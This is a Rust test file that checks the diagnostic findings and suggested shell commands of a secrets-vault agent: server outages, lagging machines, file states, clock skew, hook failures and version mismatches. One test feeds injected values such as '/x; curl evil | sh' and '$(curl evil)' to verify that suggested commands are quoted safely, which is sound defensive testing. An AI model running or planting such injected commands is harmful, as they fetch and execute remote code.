//! Each condition on its own: what is found, on which machine, since when, and what to type.

use shared::hash::Hash;
use shared::report::HookResult;

use super::*;
use crate::local::Program;

const MINUTE: u64 = 60_000_000;
const NOW: u64 = 1_000 * MINUTE;

fn at(minutes_ago: u64) -> Time {
    Time::from_micros(NOW - minutes_ago * MINUTE)
}

/// The version that this program goes by.
fn here() -> String {
    format!("vault-agent {}", version::own())
}

fn standing(name: &str) -> Standing {
    Standing {
        machine: name.parse().unwrap(),
        sleeps: false,
        awake: true,
        clock_off: None,
        program: Some(Program { version: here(), replaced: None }),
        silent: false,
        seen_at: Some(at(0)),
        added: at(900),
        read: Grants::parse(&["secret/app/"]).unwrap(),
        write: Grants::default(),
    }
}

fn row(machine: &str) -> TargetRow {
    TargetRow {
        machine: machine.parse().unwrap(),
        target: "~/app/.env".to_owned(),
        secret: "secret/app/env".parse().unwrap(),
        wanted: 2,
        fresh: false,
        applied: 2,
        hook: HookResult::Ok,
        seen_at: Some(at(0)),
        awake: true,
        outdated: false,
        state: TargetState::Ok,
        since: None,
        detail: String::new(),
    }
}

/// A vault in which all is well: this machine, one that does not sleep, one that does.
fn well() -> Status {
    let mut laptop = standing("laptop");
    (laptop.sleeps, laptop.awake, laptop.seen_at) = (true, false, Some(at(600)));
    let old = TargetRow { applied: 1, awake: false, since: Some(at(500)), ..row("laptop") };
    Status {
        machine: "here".parse().unwrap(),
        vault: Hash::ZERO,
        seq: 9,
        head: Hash::ZERO,
        online: true,
        server: Some("10.8.0.3:8443".to_owned()),
        synced_at: Some(at(0)),
        trouble: None,
        told: true,
        machines: vec![standing("here"), laptop, standing("vps")],
        restored: false,
        unwatched: false,
        server_keys: 1,
        alarms: Vec::new(),
        targets: vec![row("here"), old, row("vps")],
        outdated: Vec::new(),
        over: Vec::new(),
        near: Vec::new(),
        room: None,
        backup_failing: None,
        left: None,
        server_program: Some(Program { version: here(), replaced: None }),
        rotations: Vec::new(),
    }
}

/// Checks what is found after a change: kind, machine, text, since how many minutes, what to type.
fn check(change: impl FnOnce(&mut Status), expected: &[(&str, &str, &str, Option<u64>, &str)]) {
    let mut status = well();
    change(&mut status);
    let found = findings(&status);
    let shown: Vec<_> = found
        .iter()
        .map(|it| {
            let machine = it.machine.as_ref().map_or("", Name::as_str);
            let since = it.since.map(|since| at(0).seconds_since(since) / 60);
            (it.kind.word(), machine, it.text.as_str(), since, it.todo.as_str())
        })
        .collect();
    assert_eq!(shown, expected);
}

#[test]
fn nothing_is_found_where_all_is_well() {
    check(|_| {}, &[]);
    // Nobody is late in the first seconds.
    check(|status| (status.targets[2].applied, status.targets[2].fresh) = (1, true), &[]);
    for state in [TargetState::Kept, TargetState::Waiting] {
        check(|status| status.targets[2].state = state, &[]);
    }
}

#[test]
fn what_an_act_has_left_is_found_and_how_it_ends() {
    let out = |name: &str| Some(name.parse().unwrap());
    let left = Left { versions: 301, unreadable: 0, out: out("vps") };
    let text = "301 versions are still encrypted to the readers of before: who was put out still \
                opens them";
    let again = |command: &str, them: &str| {
        format!(
            "`{command}` re-encrypts {them}, on a host that has an admin key and may read {them}"
        )
    };
    let todo = again("vault machine remove vps", "them");
    let found = |left: &Left, text: &str, todo: &str| {
        let change = |status: &mut Status| status.left = Some(left.clone());
        check(change, &[("not_re_encrypted", "", text, None, todo)]);
    };
    found(&left, text, &todo);
    let some = format!("{text}; `here` may not read 2, and so not re-encrypt");
    found(&Left { unreadable: 2, ..left.clone() }, &some, &todo);
    // Nobody was put out: lists were narrowed.
    let own = standing("here");
    let lists = access_command(&own.machine, (&own.read, None), (&own.write, None));
    let one =
        "1 version is still encrypted to the readers of before: who was put out still opens it";
    found(&Left { versions: 1, out: None, ..left }, one, &again(&lists, "it"));
}

#[test]
fn a_server_that_is_away_is_found_and_one_that_is_refused_is_not_called_away() {
    let away = |status: &mut Status| {
        (status.online, status.told, status.synced_at) = (false, false, Some(at(7)));
        status.trouble = Some("connection refused".to_owned());
    };
    let text = "not connected to the server (10.8.0.3:8443): connection refused";
    let look = "`systemctl status vault-server` (or with `--user`) on the server's host; if it has \
                moved while this host slept: `server = [\"HOST:PORT\"]` in `agent.toml` here";
    check(away, &[("server_away", "", text, Some(7), look)]);
    let nowhere = |status: &mut Status| {
        away(status);
        status.trouble = Some("no address answers:\n  `a`: refused\n  `b`: silent".to_owned());
    };
    let text = "not connected to the server (10.8.0.3:8443): no address answers: `a`: refused; \
                `b`: silent";
    check(nowhere, &[("server_away", "", text, Some(7), look)]);
    let behind = |status: &mut Status| {
        away(status);
        status.trouble = Some("E_SERVER_BEHIND: it ends at entry 4".to_owned());
    };
    let text = "the server (10.8.0.3:8443) answers, but its log is not followed: E_SERVER_BEHIND: \
                it ends at entry 4";
    check(behind, &[("server_away", "", text, Some(7), "do what the alarm above says")]);
    // What was fetched before says nothing of now, and nothing against the server.
    let before = |status: &mut Status| {
        away(status);
        status.targets[2].applied = 1;
        let vps = Outdated { machine: "vps".parse().unwrap(), of: Some(at(9)), awake: false };
        status.outdated.push(vps);
    };
    let text = "not connected to the server (10.8.0.3:8443): connection refused";
    check(before, &[("server_away", "", text, Some(7), look)]);
    let text = "the server (10.8.0.3:8443) does not say how the others stand";
    let again = "try again; `journalctl -u vault-server` (or with `--user`) on the server's host";
    check(|status| status.told = false, &[("untold", "", text, None, again)]);
    let never = |status: &mut Status| {
        away(status);
        (status.server, status.synced_at) = (None, None);
    };
    let text = "not connected to the server (no address is known): connection refused";
    check(never, &[("server_away", "", text, None, look)]);
}

#[test]
fn who_is_silent_is_found_and_who_sleeps_is_not() {
    let silent = |status: &mut Status| {
        let vps = &mut status.machines[2];
        (vps.awake, vps.silent, vps.seen_at) = (false, true, Some(at(12)));
        // That it lags too goes without saying.
        status.targets[2].applied = 1;
    };
    let todo = "`systemctl status vault-agent` (or with `--user`) on vps; if it sleeps at times: \
                `vault machine set vps --sleeps`";
    check(silent, &[("silent", "vps", "silent", Some(12), todo)]);
    let never = |status: &mut Status| {
        silent(status);
        status.machines[2].seen_at = None;
        status.targets.pop();
    };
    check(never, &[("silent", "vps", "was added and never heard", Some(900), todo)]);
}

#[test]
fn who_lags_is_found_connected_or_not() {
    let lags = |status: &mut Status| {
        (status.targets[2].applied, status.targets[2].since) = (1, Some(at(3)));
    };
    let text = "holds v1 of `secret/app/env`, not v2";
    check(lags, &[("lags", "vps", text, Some(3), "`vault-agent status` on vps")]);
    check(
        |status| {
            lags(status);
            // Cut off, but not for five minutes yet.
            (status.machines[2].awake, status.targets[2].awake) = (false, false);
        },
        &[("lags", "vps", text, Some(3), "`vault-agent status` on vps")],
    );
    // One that sleeps is late as soon as it is awake.
    check(
        |status| status.machines[1].awake = true,
        &[("lags", "laptop", text, Some(500), "`vault-agent status` on laptop")],
    );
    let nothing = |status: &mut Status| {
        let row = &mut status.targets[0];
        (row.applied, row.state, row.detail) = (0, TargetState::Waiting, "it is edited".into());
    };
    let text = "holds nothing of `secret/app/env`, not v2 (waiting: it is edited)";
    check(nothing, &[("lags", "here", text, None, "`vault-agent status`")]);
}

#[test]
fn each_state_of_a_file_says_what_to_type() {
    let state = |state: TargetState, detail: &'static str| {
        move |status: &mut Status| {
            let row = &mut status.targets[2];
            (row.state, row.detail, row.since) = (state, detail.to_owned(), Some(at(30)));
        }
    };
    let patch = "`vault kv patch secret/app/env KEY=-` if it is to be there; if its name is wrong, \
                 `vault-agent target list` on vps shows it";
    let why = "`vault-agent status` on vps says why, and the way out";
    for (is, word, detail, text, todo) in [
        (TargetState::Missing, "missing", "no secret `a`", "missing: no secret `a`", patch),
        (
            TargetState::Denied,
            "denied",
            "`secret/app/env`",
            "denied: `secret/app/env`",
            "`vault access set vps --read secret/app/,secret/app/env` on an admin's host",
        ),
        (
            TargetState::Drift,
            "drift",
            "",
            "drift",
            "find out who writes it on vps; `vault-agent target list` shows what it holds",
        ),
        (TargetState::Failed, "failed", "disk full", "failed: disk full", why),
        (TargetState::Refused, "refused", "a CR", "refused: a CR", why),
        (
            TargetState::TooOld,
            "too_old",
            "",
            "too old",
            "bring the server back: the file follows by itself",
        ),
        (
            TargetState::Foreign,
            "foreign",
            "`LOCAL`",
            "foreign: `LOCAL`",
            "`vault-agent status` on vps names the three ways: import, block or replace",
        ),
    ] {
        check(state(is, detail), &[(word, "vps", text, Some(30), todo)]);
        // What is wrong stays wrong while its machine sleeps.
        let asleep = |status: &mut Status| {
            state(is, detail)(status);
            (status.machines[2].sleeps, status.machines[2].awake) = (true, false);
        };
        check(asleep, &[(word, "vps", text, Some(30), todo)]);
    }
}

#[test]
fn a_secret_that_is_missing_is_put_not_patched() {
    let missing = |status: &mut Status| {
        let row = &mut status.targets[2];
        (row.wanted, row.applied, row.state) = (0, 0, TargetState::Missing);
    };
    let put = "`vault kv put secret/app/env KEY=-` if it is to be there; if its name is wrong, \
               `vault-agent target list` on vps shows it";
    check(missing, &[("missing", "vps", "missing", None, put)]);
}

#[test]
fn a_machine_whose_clock_is_off_is_named_unless_it_may_be_the_servers() {
    let off = |seconds| move |status: &mut Status| status.machines[2].clock_off = Some(seconds);
    let todo = "`timedatectl` on vps shows it; set it right";
    for (seconds, text) in [
        (-172_800, "its clock is 2 d behind the server's: it cannot write"),
        (600, "its clock is 10 min ahead of the server's: it cannot write"),
        (180, "its clock is 3 min ahead of the server's"),
    ] {
        check(off(seconds), &[("clock_off", "vps", text, None, todo)]);
    }
    let both = |status: &mut Status| {
        off(600)(status);
        let (code, text) = ("E_CLOCK".to_owned(), "x".to_owned());
        status.alarms.push(Alarm { code, text, since: at(1), subject: String::new() });
    };
    let hint = Code::Clock.hint();
    check(both, &[("E_CLOCK", "here", "x", Some(1), hint)]);
}

#[test]
fn a_hook_that_failed_is_found_once_for_all_secrets_of_its_target() {
    let hook = |hook: HookResult| {
        move |status: &mut Status| {
            let row = &mut status.targets[2];
            (row.hook, row.detail, row.since) = (hook, "exit 1".to_owned(), Some(at(2)));
            let other = TargetRow { secret: "secret/app/more".parse().unwrap(), ..row.clone() };
            status.targets.push(other);
        }
    };
    let todo = "`journalctl -u vault-agent` on vps says why; once that is mended, \
                `vault-agent hook run '~/app/.env'` on vps";
    for (result, text) in [
        (HookResult::Failed, "hook failed: exit 1"),
        (HookResult::RolledBack, "hook rolled back: exit 1"),
        (HookResult::RollingBack, "hook rolling back: exit 1"),
    ] {
        check(hook(result), &[("hook_failed", "vps", text, Some(2), todo)]);
    }
}

#[test]
fn an_alarm_brings_its_own_way_out() {
    let alarm = |code: &str, text: &str| {
        let (code, text) = (code.to_owned(), text.to_owned());
        move |status: &mut Status| {
            status.alarms.push(Alarm { code, text, since: at(60), subject: String::new() });
        }
    };
    check(
        alarm("E_TARGET", "`/a` failed: no room (hint: free (some) space); and 2 more"),
        &[("E_TARGET", "here", "`/a` failed: no room; and 2 more", Some(60), "free (some) space")],
    );
    check(
        alarm("E_FORK", "entry 7"),
        &[("E_FORK", "here", "entry 7", Some(60), Code::Fork.hint())],
    );
    let look = "`vault-agent status` shows the targets";
    check(alarm("set-aside", "one"), &[("set-aside", "here", "one", Some(60), look)]);
    // Nobody sleeps who is named there.
    check(alarm("E_STALE", "`vps`"), &[("E_STALE", "here", "`vps`", Some(60), Code::Stale.hint())]);
}

#[test]
fn what_an_alarm_of_this_machine_says_is_said_once() {
    let failed = |text: &'static str| {
        move |status: &mut Status| {
            let row = &mut status.targets[0];
            (row.state, row.since) = (TargetState::Failed, Some(at(90)));
            let (code, text) = ("E_TARGET".to_owned(), text.to_owned());
            let alarm = Alarm { code, text, since: at(5), subject: String::new() };
            status.alarms.push(alarm);
        }
    };
    let one = failed("`/a` failed: no room (hint: free some)");
    check(one, &[("E_TARGET", "here", "`/a` failed: no room", Some(90), "free some")]);
    let why = "`vault-agent status` says why, and the way out";
    check(
        failed("`/a` failed (hint: free some); and 2 more"),
        &[
            ("E_TARGET", "here", "`/a` failed; and 2 more", Some(5), "free some"),
            ("failed", "here", "failed", Some(90), why),
        ],
    );
    let source = |status: &mut Status| {
        failed("`/m` failed (hint: free some)")(status);
        status.targets[0].target = "/m (source)".to_owned();
        status.alarms[0].code = "E_SOURCE_SHRUNK".into();
    };
    check(source, &[("E_SOURCE_SHRUNK", "here", "`/m` failed", Some(90), "free some")]);
    // Of others this machine has no alarm.
    let other = |status: &mut Status| {
        failed("`/a` failed (hint: free some)")(status);
        status.targets[2].state = TargetState::Failed;
    };
    let mut status = well();
    other(&mut status);
    let kinds: Vec<_> = findings(&status).iter().map(|it| it.kind.word().to_owned()).collect();
    assert_eq!(kinds, ["E_TARGET", "failed"]);
}

#[test]
fn targets_that_are_held_back_are_found() {
    let of = Some(at(9));
    let outdated = |machine: &str| {
        let machine = machine.parse().unwrap();
        move |status: &mut Status| status.outdated.push(Outdated { machine, of, awake: true })
    };
    let text = "the server does not hand out its newest signed targets; those shown are older";
    check(outdated("vps"), &[("outdated", "vps", text, Some(9), "`vault-agent status` on vps")]);
    check(outdated("laptop"), &[]);
}

#[test]
fn what_is_to_be_typed_is_no_command_of_somebody_else() {
    let mut status = well();
    let row = &mut status.targets[2];
    row.target = "/x; curl evil | sh".to_owned();
    row.secret = "secret/$(curl evil)/it's".parse().unwrap();
    row.detail = "`curl evil`".to_owned();
    for state in [TargetState::Missing, TargetState::Denied] {
        status.targets[2].state = state;
        let found = findings(&status).remove(0);
        let quoted = r"secret/$(curl evil)/it'\''s'";
        assert!(found.todo.contains(quoted), "{}", found.todo);
        assert!(!found.todo.contains("curl evil | sh") && !found.todo.contains("`curl"));
    }
}

#[test]
fn a_program_whose_file_is_another_one_is_found_wherever_it_runs() {
    let replaced = |version: &str| Some(Program { version: version.into(), replaced: Some(at(9)) });
    let vps = |status: &mut Status| status.machines[2].program = replaced("vault-agent 0.1.0");
    let text = "runs vault-agent 0.1.0, which is no longer the file on its disk";
    let todo = "`systemctl restart vault-agent` (or with `--user`) on vps";
    check(vps, &[("program_replaced", "vps", text, Some(9), todo)]);
    let here = |status: &mut Status| status.machines[0].program = replaced("vault-agent 0.1.0");
    let todo = "`systemctl restart vault-agent` (or with `--user`)";
    check(here, &[("program_replaced", "here", text, Some(9), todo)]);
    // It restarts when it wakes up, or is looked at then.
    let asleep = |status: &mut Status| status.machines[1].program = replaced("vault-agent 0.1.0");
    check(asleep, &[]);
    let server = |status: &mut Status| status.server_program = replaced("vault-server 0.1.0");
    let text = "the server says that it runs vault-server 0.1.0, which is no longer the file on \
                its disk";
    let todo = "`systemctl restart vault-server` (or with `--user`) on the server's host";
    check(server, &[("program_replaced", "", text, Some(9), todo)]);
}

/// Judges programs as one of version 0.3.0 does: those of the server and of the three machines.
fn seen_from_0_3(programs: [&str; 4]) -> (Vec<String>, Option<String>) {
    let mut status = well();
    let program = |version: &str| {
        (!version.is_empty()).then(|| Program { version: version.to_owned(), replaced: None })
    };
    status.server_program = program(programs[0]);
    for (standing, version) in status.machines.iter_mut().zip(&programs[1..]) {
        standing.program = program(version);
    }
    let own = Version::of("0.3.0").unwrap();
    let found = programs::findings(&status, Some(own)).into_iter();
    let found = found.map(|it| format!("{:?}: {}; {}", it.machine, it.text, it.todo));
    let who = |runs: &Runs<'_>| match runs {
        Runs::Machine(name) => name.to_string(),
        Runs::Server => "server".to_owned(),
        Runs::Asking => "asking".to_owned(),
    };
    let mixed = mixed(&status, own).map(|Mixed { newest, on, older }| {
        let older: Vec<_> = older.iter().map(|(on, it)| format!("{} {it}", who(on))).collect();
        format!("{newest} on {}: {}", who(&on), older.join(", "))
    });
    (found.collect(), mixed)
}

#[test]
fn an_older_neighbour_is_named_and_one_that_is_too_old_is_wrong() {
    let agent = |version: &str| format!("vault-agent {version}");
    let check = |programs: [&str; 4], found: &[&str], mixed: Option<&str>| {
        let agents = [programs[1], programs[2], programs[3]].map(agent);
        let [here, laptop, vps] = &agents;
        let (wrong, told) = seen_from_0_3([programs[0], here, laptop, vps]);
        assert_eq!(
            (wrong, told.as_deref()),
            (found.iter().map(|it| (*it).to_owned()).collect(), mixed)
        );
    };
    check(["0.3.0", "0.3.0", "0.3.0", "0.3.0"], &[], None);
    let older = "0.3.0 on here: laptop 0.2.0, vps 0.2.9, server 0.2.0";
    check(["0.2.0", "0.3.0", "0.2.0", "0.2.9"], &[], Some(older));
    let asking = "0.4.0 on vps: here 0.3.0, laptop 0.3.0, server 0.3.0, asking 0.3.0";
    check(["0.3.0", "0.3.0", "0.3.0", "0.4.0"], &[], Some(asking));
    let old = "Some(Name(\"vps\")): runs vault-agent 0.1.0: too old for this program, 0.3.0; \
               install vault-agent 0.3.0 on vps, or bring this host back to a version between";
    check(
        ["0.3.0", "0.3.0", "0.1.0", "0.1.0"],
        &[old],
        Some("0.3.0 on here: laptop 0.1.0, vps 0.1.0"),
    );
    // A member that claims to be ever so new makes nobody else wrong.
    let claim = "99.0.0 on vps: here 0.3.0, laptop 0.3.0, server 0.3.0, asking 0.3.0";
    check(["0.3.0", "0.3.0", "0.3.0", "99.0.0"], &[], Some(claim));
    assert_eq!(seen_from_0_3(["", "", "", "no version"]), (vec![], None));
}
